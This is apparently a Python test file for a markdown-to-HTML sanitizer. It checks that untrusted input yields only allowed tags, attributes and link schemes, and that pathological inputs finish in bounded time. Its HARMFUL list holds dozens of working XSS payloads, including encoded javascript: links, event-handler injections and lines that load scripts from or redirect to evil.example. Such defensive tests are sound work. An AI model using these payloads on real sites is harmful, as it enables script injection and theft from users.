"""Markdown from strangers."""

import contextlib
import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from maslikhat.kit.markdown import to_html
from maslikhat.kit.refusals import Refused

TAGS = {
    *("p", "br", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a", "hr"),
    *("h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}
# What a browser takes for the kind of an address, after it has dropped tabs and line ends.
KIND = re.compile(r"[\x00-\x20]*([a-z][a-z0-9+.-]*):", re.IGNORECASE)
HARMFUL = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext></p><img src=x onerror=alert(1)></math>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<p style='position:fixed'>x</p>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,x'></object><embed src=x>",
    "<form action=//evil.example><input name=a autofocus onfocus=alert(1)></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](file:///etc/passwd)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '![x](x "onerror=alert(1)")',
    '[x](https://a.kz "onmouseover=alert(1)")',
    '[x](https://a.kz/"onmouseover="alert(1))',
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "```<script>\n<img src=x onerror=alert(1)>\n```",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<script\x00>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202e<script>alert(1)</script>",
]


class Seen(HTMLParser):
    """The tags and attributes of a page, as a browser's parser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def is_harmless(html: str) -> bool:
    """Only the tags, attributes and kinds of links that are allowed."""
    seen = Seen(html)
    links = [value for _tag, name, value in seen.attributes if name == "href"]
    kinds = [KIND.match(re.sub(r"[\t\r\n]", "", link)) for link in links]
    plain = {("a", "href"), ("a", "rel"), ("a", "title"), ("ol", "start")}
    return (
        set(seen.tags) <= TAGS
        and {(tag, name) for tag, name, _value in seen.attributes} <= plain
        and {kind[1].lower() for kind in kinds if kind} <= {"https", "http", "mailto"}
    )


def test_the_measure_of_harm_sees_harm() -> None:
    for html in (
        "<a href='java\tscript:x'>",
        "<img src=x>",
        "<p onclick=x>",
        "<a href='javascript:x'>",
        "<script>",
        "<svg/>",
    ):
        assert not is_harmless(html)


@pytest.mark.parametrize("source", HARMFUL)
def test_nothing_harmful_comes_through(source: str) -> None:
    for text in (source, f"> {source}", f"- a\n  - {source}", f"**{source}**", f"a\n\n{source}\nb"):
        assert is_harmless(to_html(text)), to_html(text)


@given(st.lists(st.sampled_from([*HARMFUL, "[", "](", ")", "<", ">", "`", "*", "&#x", "\n", '"'])))
def test_no_medley_of_harm_comes_through(parts: list[str]) -> None:
    assert is_harmless(to_html("".join(parts)))


@given(st.text(max_size=200))
def test_whatever_is_written_becomes_harmless_html(source: str) -> None:
    assert is_harmless(to_html(source))


def test_a_link_says_that_we_do_not_vouch_for_it() -> None:
    html = to_html("[a](https://a.kz/?b=1&c=2) <https://b.kz> [m](mailto:a@b.kz) [in](/kk/)")
    seen = Seen(html)
    assert [v for _t, n, v in seen.attributes if n == "href"] == [
        "https://a.kz/?b=1&c=2", "https://b.kz", "mailto:a@b.kz", "/kk/",
    ]  # fmt: skip
    assert [v for _t, n, v in seen.attributes if n == "rel"] == ["nofollow ugc noopener"] * 4


def test_headings_begin_below_the_pages_own() -> None:
    source = "\n\n".join(f"{'#' * level} Level {level}" for level in range(1, 7))
    assert Seen(to_html(source)).tags == ["h3", "h4", "h5", "h6", "h6", "h6"]
    assert Seen(to_html("One\n===\n\nTwo\n---")).tags == ["h3", "h4"]


def test_what_markdown_can_say_is_said() -> None:
    html = to_html("*a* **b** ~~c~~ `d`\n\n3. x\n\n> q\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n---")
    for part in ("<em>a</em>", "<strong>b</strong>", "<s>c</s>", "<code>d</code>",
                 '<ol start="3">', "<blockquote>", "<td>1</td>", "<hr>"):  # fmt: skip
        assert part in html


@pytest.mark.parametrize(
    "source",
    [
        "a" * 200_000,
        "a\n\n" * 20_000,
        ">" * 20_000,
        "> " * 20_000 + "a",
        "- " * 5_000 + "a",
        "".join("  " * n + "- a\n" for n in range(300)),
        "[" * 20_000,
        "[" * 5_000 + "]" * 5_000,
        "![" * 10_000,
        "[a](" * 10_000,
        "<" * 20_000,
        "*" * 20_000,
        "*a _b " * 10_000,
        "`" * 20_000,
        "".join("`" * n + "a" for n in range(300)),
        "&" * 50_000,
        "|a" * 5_000 + "\n" + "|-" * 5_000 + "\n" + "|b" * 5_000,
        "\\" * 20_000,
        "[a]: b\n" * 5_000 + "[a]" * 5_000,
    ],
    ids=lambda source: f"{source[:6]!r}×{len(source)}",
)
def test_the_longest_and_deepest_text_is_done_or_refused_in_bounded_time(source: str) -> None:
    begun = time.process_time()
    with contextlib.suppress(Refused):
        assert is_harmless(to_html(source))
    assert time.process_time() - begun < 3


def test_a_text_of_brackets_alone_keeps_its_words_and_has_no_links() -> None:
    html = to_html("[a](https://a.kz) **b** " * 501)
    assert Seen(html).tags.count("strong") == 501
    assert "a" not in Seen(html).tags
    assert to_html("[a](https://a.kz) " * 500).count("<a ") == 500
